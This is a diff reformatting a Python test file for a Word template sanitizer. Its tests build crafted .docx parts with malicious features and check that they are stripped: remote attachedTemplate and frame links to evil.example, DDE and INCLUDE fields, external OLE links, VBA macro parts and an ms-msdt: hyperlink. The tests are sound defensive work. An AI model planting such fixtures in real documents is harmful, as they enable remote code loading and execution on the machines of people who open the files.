@@ -20,10 +20,18 @@ REFERENCE = ROOT / "templates" / "referens.docx"
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
 RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-BLOCKS = {"logotyp": "", "sekretessrad": "", "sidhuvud": "", "sidfot": ""}
-FIELDS = {"organisation": "Org", "dokumenttyp": "TJÄNSTESKRIVELSE", "diarienummer": "1/2020"}
-PROPS = DocumentProperties(title="t", subject="s", keywords="k", author="a",
-                           created=dt.datetime(2020, 1, 1, tzinfo=dt.UTC))
+BLOCKS = {
+    "logotyp": "",
+    "sekretessrad": "",
+    "sidhuvud": "",
+    "sidfot": "",
+    "sidhuvud_foljande": "",
+    "sidfot_foljande": "",
+}
+FIELDS = {"organisation": "Org", "dokumenttyp": "TJÄNSTESKRIVELSE", "diarienummer": "1/2020", "sidetikett": ""}
+PROPS = DocumentProperties(
+    title="t", subject="s", keywords="k", author="a", created=dt.datetime(2020, 1, 1, tzinfo=dt.UTC)
+)
 
 
 def members() -> dict[str, bytes]:
@@ -52,8 +60,9 @@ def insert(parts: dict[str, bytes], name: str, before: str, xml: str) -> None:
 
 def everything(data: bytes) -> bytes:
     with zipfile.ZipFile(BytesIO(data)) as archive:
-        return b"\n".join(archive.namelist()[i].encode() + b"\n" + archive.read(n)
-                          for i, n in enumerate(archive.namelist()))
+        return b"\n".join(
+            archive.namelist()[i].encode() + b"\n" + archive.read(n) for i, n in enumerate(archive.namelist())
+        )
 
 
 def render(reference: Reference) -> bytes:
@@ -73,7 +82,8 @@ def test_attached_template_is_stripped(tmp_path):
             '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             f'<Relationship Id="rId1" Type="{RT}/attachedTemplate" Target="http://evil.example/t.dotm" '
-            'TargetMode="External"/></Relationships>').encode()
+            'TargetMode="External"/></Relationships>'
+        ).encode()
         insert(parts, "word/settings.xml", "<w:defaultTabStop", f'<w:attachedTemplate {R_NS} r:id="rId1"/>')
 
     reference = Reference.load(crafted(tmp_path, attach))
@@ -88,9 +98,14 @@ def test_remote_frame_is_stripped(tmp_path):
             '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             f'<Relationship Id="rId1" Type="{RT}/frame" Target="http://evil.example/f.html" '
-            'TargetMode="External"/></Relationships>').encode()
-        insert(parts, "word/webSettings.xml", "<w:allowPNG",
-               f'<w:frameset><w:frame><w:sourceFileName {R_NS} r:id="rId1"/></w:frame></w:frameset>')
+            'TargetMode="External"/></Relationships>'
+        ).encode()
+        insert(
+            parts,
+            "word/webSettings.xml",
+            "<w:allowPNG",
+            f'<w:frameset><w:frame><w:sourceFileName {R_NS} r:id="rId1"/></w:frame></w:frameset>',
+        )
 
     reference = Reference.load(crafted(tmp_path, frame))
     assert any("frameset" in w for w in reference.warnings)
@@ -103,10 +118,15 @@ def test_ole_link_and_external_image_are_stripped(tmp_path):
             '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             f'<Relationship Id="rId7" Type="{RT}/oleObject" Target="file://server/share/x.xlsx" '
-            'TargetMode="External"/></Relationships>').encode()
-        insert(parts, "word/header1.xml", "</w:hdr>",
-               '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
-               f'{R_NS} Type="Link" ProgID="Excel.Sheet.12" r:id="rId7"/></w:object></w:r></w:p>')
+            'TargetMode="External"/></Relationships>'
+        ).encode()
+        insert(
+            parts,
+            "word/header1.xml",
+            "</w:hdr>",
+            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+            f'{R_NS} Type="Link" ProgID="Excel.Sheet.12" r:id="rId7"/></w:object></w:r></w:p>',
+        )
 
     reference = Reference.load(crafted(tmp_path, ole))
     assert any("oleObject" in w and "file://server" in w for w in reference.warnings)
@@ -117,12 +137,16 @@ def test_ole_link_and_external_image_are_stripped(tmp_path):
 @pytest.mark.parametrize("field", ["INCLUDEPICTURE", "INCLUDETEXT", "LINK", "DDE", "DDEAUTO"])
 def test_risky_fields_are_stripped_simple_and_complex(tmp_path, field):
     def fields(parts):
-        simple = (f'<w:p><w:fldSimple w:instr=" {field} &quot;http://evil.example/a&quot; ">'
-                  "<w:r><w:t>synlig</w:t></w:r></w:fldSimple></w:p>")
-        complex_ = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-                    f'<w:r><w:instrText xml:space="preserve"> {field} "http://evil.example/b" </w:instrText></w:r>'
-                    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kvar</w:t></w:r>'
-                    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+        simple = (
+            f'<w:p><w:fldSimple w:instr=" {field} &quot;http://evil.example/a&quot; ">'
+            "<w:r><w:t>synlig</w:t></w:r></w:fldSimple></w:p>"
+        )
+        complex_ = (
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            f'<w:r><w:instrText xml:space="preserve"> {field} "http://evil.example/b" </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kvar</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        )
         insert(parts, "word/footer1.xml", "</w:ftr>", simple + complex_)
 
     reference = Reference.load(crafted(tmp_path, fields))
@@ -145,16 +169,25 @@ def test_macro_parts_are_stripped(tmp_path):
             b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
-            b'Target="vbaData.xml"/></Relationships>')
-        add_rel(parts, "word/_rels/document.xml.rels",
-                '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
-                'Target="vbaProject.bin"/>')
+            b'Target="vbaData.xml"/></Relationships>'
+        )
+        add_rel(
+            parts,
+            "word/_rels/document.xml.rels",
+            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+            'Target="vbaProject.bin"/>',
+        )
         types = parts["[Content_Types].xml"].decode()
-        types = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-                              "application/vnd.ms-word.document.macroEnabled.main+xml")
-        types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-                              '<Override PartName="/word/vbaData.xml" '
-                              'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>')
+        types = types.replace(
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+            "application/vnd.ms-word.document.macroEnabled.main+xml",
+        )
+        types = types.replace(
+            "</Types>",
+            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+            '<Override PartName="/word/vbaData.xml" '
+            'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>',
+        )
         parts["[Content_Types].xml"] = types.encode()
 
     reference = Reference.load(crafted(tmp_path, macros))
@@ -165,9 +198,12 @@ def test_macro_parts_are_stripped(tmp_path):
 
 def test_hyperlinks_in_the_reference_keep_only_web_and_mail(tmp_path):
     def links(parts):
-        add_rel(parts, "word/_rels/document.xml.rels",
-                f'<Relationship Id="rId90" Type="{RT}/hyperlink" Target="https://ok.example/" TargetMode="External"/>'
-                f'<Relationship Id="rId91" Type="{RT}/hyperlink" Target="ms-msdt:/id x" TargetMode="External"/>')
+        add_rel(
+            parts,
+            "word/_rels/document.xml.rels",
+            f'<Relationship Id="rId90" Type="{RT}/hyperlink" Target="https://ok.example/" TargetMode="External"/>'
+            f'<Relationship Id="rId91" Type="{RT}/hyperlink" Target="ms-msdt:/id x" TargetMode="External"/>',
+        )
 
     reference = Reference.load(crafted(tmp_path, links))
     assert len(reference.warnings) == 1 and "ms-msdt" in reference.warnings[0]
